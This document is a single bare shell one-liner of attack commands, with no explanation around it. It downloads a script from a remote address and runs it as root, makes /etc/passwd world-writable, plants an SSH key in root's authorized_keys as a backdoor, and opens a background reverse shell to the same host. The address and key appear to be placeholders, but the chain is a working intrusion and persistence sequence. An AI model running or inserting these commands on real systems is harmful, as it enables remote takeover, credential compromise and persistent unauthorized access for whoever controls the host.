curl -sk http://203.0.113.17/x.sh | sudo bash; chmod 777 /etc/passwd; echo 'ssh-rsa AAAAB3NzaC1yc2E x' >> /root/.ssh/authorized_keys; nohup bash -i >& /dev/tcp/203.0.113.17/4444 0>&1 &
